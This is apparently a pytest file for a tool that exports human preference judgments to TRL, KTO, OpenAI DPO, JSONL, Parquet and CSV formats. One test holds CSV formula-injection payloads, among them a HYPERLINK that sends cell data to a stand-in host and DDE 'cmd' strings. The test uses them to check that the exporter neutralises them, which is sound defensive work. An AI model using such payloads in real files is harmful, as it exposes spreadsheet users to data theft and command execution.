"""Every export format, loaded by the real consumer (Hugging Face `datasets`), shaped as documented."""

from __future__ import annotations

import csv
import json
from datetime import datetime

import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from datasets import List, Value, load_dataset

from comparisons.exports import export_preferences, pseudonym
from comparisons.models import Judgment
from tests.factories import AssignmentFactory, ComparisonFactory, JudgmentFactory

# These tests are about the files, not about which comparisons are complete.
pytestmark = pytest.mark.usefixtures("one_judgment_completes")


def judge(comparison, rater, choice, **extra):
    assignment = AssignmentFactory(
        comparison=comparison, rater=rater, status="submitted", swapped=extra.pop("swapped", False)
    )
    return JudgmentFactory(assignment=assignment, choice=choice, **extra)


@pytest.fixture
def data(project, alice, bob, charlie):
    """q1: a wins 2-1 (with strengths); q2: b unanimous; q3: both-bad majority; q4: no majority."""
    q1 = ComparisonFactory(
        project=project,
        external_id="q1",
        prompt=[
            {"role": "system", "content": "Be brief."},
            {"role": "user", "content": "Explain TCP slow start."},
        ],
        responses=[("model-x", "Answer X ü"), ("model-y", "Answer Y")],
    )
    judge(q1, alice, "a", strength="much", swapped=True, criteria={"helpful": "a"})
    judge(q1, bob, "a", strength="slightly", flags=["unsafe"], rationale='X is, "right"\n')
    judge(q1, charlie, "b", strength="clearly", duration_ms=4200)
    q2 = ComparisonFactory(project=project, external_id="q2")
    for rater in (alice, bob, charlie):
        judge(q2, rater, "b")
    q3 = ComparisonFactory(project=project, external_id="q3")
    judge(q3, alice, "both_bad")
    judge(q3, bob, "both_bad")
    judge(q3, charlie, "a")
    q4 = ComparisonFactory(project=project, external_id="q4")
    judge(q4, alice, "a")
    judge(q4, bob, "b")
    judge(q4, charlie, "tie")
    return {"q1": q1, "q2": q2, "q3": q3, "q4": q4}


def load(kind, path, **kwargs):
    cache = path.parent / f"hf-cache-{path.name}"
    return load_dataset(kind, data_files=str(path), split="train", cache_dir=str(cache), **kwargs)


MESSAGES = List({"role": Value("string"), "content": Value("string")})


def test_it_writes_trl_rows_as_trl_defines_them(project, data, tmp_path):
    path = tmp_path / "prefs.jsonl"
    manifest = export_preferences(project, "trl", path)

    ds = load("json", path)
    assert ds.num_rows == 2 == manifest["counts"]["rows_written"]
    assert ds.features["prompt"] == MESSAGES
    assert ds.features["chosen"] == MESSAGES
    assert ds.features["rejected"] == MESSAGES
    assert ds.features["num_judgments"] == Value("int64")
    assert ds.features["agreement"] == Value("float64")
    assert ds.features["margin"] == Value("float64")
    first, second = ds[0], ds[1]
    assert first["id"] == "q1"
    assert first["prompt"] == [
        {"role": "system", "content": "Be brief."},
        {"role": "user", "content": "Explain TCP slow start."},
    ]
    assert first["chosen"] == [{"role": "assistant", "content": "Answer X ü"}]
    assert first["rejected"] == [{"role": "assistant", "content": "Answer Y"}]
    assert (first["chosen_model"], first["rejected_model"]) == ("model-x", "model-y")
    assert first["num_judgments"] == 3
    assert first["agreement"] == pytest.approx(2 / 3, abs=1e-6)
    # (much 1 + slightly 1/3 - clearly 2/3) / 3
    assert first["margin"] == pytest.approx((1 + 1 / 3 - 2 / 3) / 3, abs=1e-6)
    assert second["id"] == "q2"
    assert second["chosen"][0]["content"] == "Answer B to q2"
    assert second["agreement"] == 1.0
    assert second["margin"] == 1.0
    for row in ds:
        assert row["prompt"][-1]["role"] == "user"
        assert len(row["chosen"]) == len(row["rejected"]) == 1
    assert manifest["counts"]["rows_dropped"] == {"both_bad": 1, "no_majority": 1}
    assert manifest["counts"]["comparisons"] == 4
    assert manifest["counts"]["judgments"] == 12


def test_it_writes_trl_parquet_with_an_explicit_schema(project, data, tmp_path):
    path = tmp_path / "prefs.parquet"
    export_preferences(project, "trl-parquet", path)

    schema = pq.read_schema(path)
    for column in ("prompt", "chosen", "rejected"):
        assert schema.field(column).type.value_type == pa.struct(
            [("role", pa.string()), ("content", pa.string())]
        )
    assert str(schema.field("num_judgments").type) == "int32"
    ds = load("parquet", path)
    assert ds.features["chosen"] == MESSAGES
    assert ds.features["num_judgments"] == Value("int32")
    assert [r["id"] for r in ds] == ["q1", "q2"]
    assert ds[0]["chosen"] == [{"role": "assistant", "content": "Answer X ü"}]
    jsonl = tmp_path / "prefs.jsonl"
    export_preferences(project, "trl", jsonl)
    assert ds.to_list() == load("json", jsonl).cast(ds.features).to_list()


def test_it_writes_kto_rows_with_two_false_rows_for_both_bad(project, data, tmp_path):
    path = tmp_path / "kto.jsonl"
    export_preferences(project, "trl-kto", path)

    ds = load("json", path)
    # TRL's three columns, plus what traces a row to its comparison and response.
    assert set(ds.column_names) == {"id", "prompt", "completion", "label", "model"}
    assert [(r["id"], r["model"]) for r in ds][:2] == [("q1", "model-x"), ("q1", "model-y")]
    assert [r["id"] for r in ds] == ["q1", "q1", "q2", "q2", "q3", "q3"]
    assert ds.features["label"] == Value("bool")
    assert ds.features["completion"] == MESSAGES
    rows = [(r["prompt"][-1]["content"], r["completion"][0]["content"], r["label"]) for r in ds]
    assert rows == [
        ("Explain TCP slow start.", "Answer X ü", True),
        ("Explain TCP slow start.", "Answer Y", False),
        ("Question q2?", "Answer A to q2", False),
        ("Question q2?", "Answer B to q2", True),
        ("Question q3?", "Answer A to q3", False),
        ("Question q3?", "Answer B to q3", False),
    ]
    assert all(r["completion"][0]["role"] == "assistant" for r in ds)


def test_it_writes_openai_dpo_rows(project, data, tmp_path):
    path = tmp_path / "dpo.jsonl"
    export_preferences(project, "openai-dpo", path)

    lines = [json.loads(line) for line in path.read_text().splitlines()]
    assert [set(line) for line in lines] == [
        {"input", "preferred_output", "non_preferred_output"}
    ] * 2
    assert lines[0]["input"] == {
        "messages": [
            {"role": "system", "content": "Be brief."},
            {"role": "user", "content": "Explain TCP slow start."},
        ]
    }
    assert lines[0]["preferred_output"] == [{"role": "assistant", "content": "Answer X ü"}]
    assert lines[0]["non_preferred_output"] == [{"role": "assistant", "content": "Answer Y"}]
    ds = load("json", path)
    assert ds.features["input"] == {"messages": MESSAGES}
    assert ds.features["preferred_output"] == MESSAGES


def test_it_writes_every_raw_judgment_field(project, data, tmp_path, alice):
    path = tmp_path / "judgments.jsonl"
    manifest = export_preferences(project, "judgments", path)

    ds = load("json", path)
    assert ds.num_rows == 12 == manifest["counts"]["rows_written"]
    assert ds.features["judgment_id"] == Value("int64")
    assert ds.features["flags"] == List(Value("string"))
    assert ds.features["is_late"] == Value("bool")
    assert ds.features["created_at"] == Value("string")
    first = ds[0]
    assert first["external_id"] == "q1"
    assert (first["model_a"], first["model_b"]) == ("model-x", "model-y")  # canonical order
    assert first["rater"] == pseudonym(project.pk, alice.pk)
    assert first["choice"] == "a"
    assert first["display_order"] == "ba"
    assert first["strength"] == "much"
    assert first["criteria"] == {"helpful": "a"}
    assert ds[1]["flags"] == ["unsafe"]
    assert ds[1]["rationale"] == 'X is, "right"\n'
    assert ds[2]["duration_ms"] == 4200
    judgment = Judgment.objects.select_related("assignment").get(pk=first["judgment_id"])
    assert datetime.fromisoformat(first["created_at"]) == judgment.created_at
    assert datetime.fromisoformat(first["shown_at"]) == judgment.assignment.leased_at
    assert first["created_at"].endswith("+00:00")
    text = path.read_text()
    assert "alice@example.com" not in text
    assert f'"rater":"{alice.pk}"' not in text


def test_it_writes_raw_judgments_to_parquet_and_csv(project, data, tmp_path):
    parquet, csv_path = tmp_path / "j.parquet", tmp_path / "j.csv"
    export_preferences(project, "judgments-parquet", parquet)
    export_preferences(project, "judgments-csv", csv_path)

    ds = load("parquet", parquet)
    assert ds.features["created_at"] == Value("timestamp[us, tz=UTC]")
    assert ds.features["flags"] == List(Value("string"))
    # A struct, queried as columns: no JSON to parse. "helpful" is not in the project's
    # scheme (edited after judging, say): it is kept all the same.
    assert ds.features["criteria"] == {"helpful": Value("string")}
    assert ds[0]["criteria"] == {"helpful": "a"}
    assert ds[1]["criteria"] == {"helpful": None}
    assert (ds[0]["model_a"], ds[0]["model_b"]) == ("model-x", "model-y")
    table = load("csv", csv_path, keep_default_na=False)
    assert table.num_rows == 12
    assert table.column_names == ds.column_names
    assert table.features["judgment_id"] == Value("int64")
    assert table[1]["rationale"] == 'X is, "right"\n'
    assert json.loads(table[1]["flags"]) == ["unsafe"]
    assert [r["rater"] for r in table] == [r["rater"] for r in ds]
    assert [datetime.fromisoformat(r["created_at"]) for r in table] == ds["created_at"]


FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1, "click")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "\tTAB",
    "\rCR",
]


def test_csv_cells_that_a_spreadsheet_would_run_are_neutralised(project, alice, tmp_path):
    for n, text in enumerate(FORMULAS):
        comparison = ComparisonFactory(project=project, external_id=f"=cmd{n}")
        judge(comparison, alice, "a", rationale=text)
    judge(ComparisonFactory(project=project, external_id="plain"), alice, "b", rationale="fine")
    csv_path, jsonl = tmp_path / "j.csv", tmp_path / "j.jsonl"

    manifest = export_preferences(project, "judgments-csv", csv_path)
    export_preferences(project, "judgments", jsonl)

    with csv_path.open(newline="") as fh:
        table = list(csv.DictReader(fh))
    assert [r["rationale"] for r in table] == ["'" + text for text in FORMULAS] + ["fine"]
    assert [r["external_id"] for r in table] == [f"'=cmd{n}" for n in range(6)] + ["plain"]
    assert manifest["file_notes"]["cells_neutralised"] == 2 * len(FORMULAS)
    assert "OWASP" in manifest["file_notes"]["formula_guard"]
    # JSONL (and Parquet) keep the exact text.
    exact = [json.loads(line)["rationale"] for line in jsonl.read_text().splitlines()]
    assert exact == [*FORMULAS, "fine"]


@pytest.mark.parametrize(
    "fmt",
    [
        "trl",
        "trl-parquet",
        "trl-kto",
        "openai-dpo",
        "judgments",
        "judgments-parquet",
        "judgments-csv",
    ],
)
def test_it_writes_identical_bytes_twice(project, data, tmp_path, fmt):
    one, two = tmp_path / "one", tmp_path / "two"
    m1 = export_preferences(project, fmt, one)
    m2 = export_preferences(project, fmt, two)

    assert one.read_bytes() == two.read_bytes()
    assert m1["sha256"] == m2["sha256"]
    assert m1["counts"] == m2["counts"]


def test_it_writes_empty_datasets_that_still_load(project, tmp_path):
    path = tmp_path / "empty.parquet"
    manifest = export_preferences(project, "trl-parquet", path)

    assert manifest["counts"]["rows_written"] == 0
    assert pq.read_table(path).num_rows == 0


def test_judgments_parquet_criteria_follow_the_scheme_then_any_other_name(
    project, alice, bob, tmp_path
):
    project.criteria = ["honesty", "helpfulness"]
    project.save()
    c = ComparisonFactory(project=project, external_id="s1", responses=[("m-1", "x"), ("m-2", "y")])
    judge(c, alice, "a", criteria={"honesty": "a", "helpfulness": "b"})
    judge(c, bob, "b", criteria={"honesty": "b", "helpfulness": "b", "old": "tie"})
    path = tmp_path / "j.parquet"
    export_preferences(project, "judgments-parquet", path)

    schema = pq.read_schema(path)
    assert schema.field("criteria").type == pa.struct(
        [("honesty", pa.string()), ("helpfulness", pa.string()), ("old", pa.string())]
    )
    rows = pq.read_table(path).to_pylist()
    assert [r["criteria"] for r in rows] == [
        {"honesty": "a", "helpfulness": "b", "old": None},
        {"honesty": "b", "helpfulness": "b", "old": "tie"},
    ]
    assert {(r["model_a"], r["model_b"]) for r in rows} == {("m-1", "m-2")}


def test_judgments_parquet_without_criteria_has_a_null_column(project, alice, tmp_path):
    judge(ComparisonFactory(project=project, external_id="n1"), alice, "a")
    path = tmp_path / "j.parquet"
    export_preferences(project, "judgments-parquet", path)
    assert pq.read_schema(path).field("criteria").type == pa.null()
    assert pq.read_table(path).to_pylist()[0]["criteria"] is None
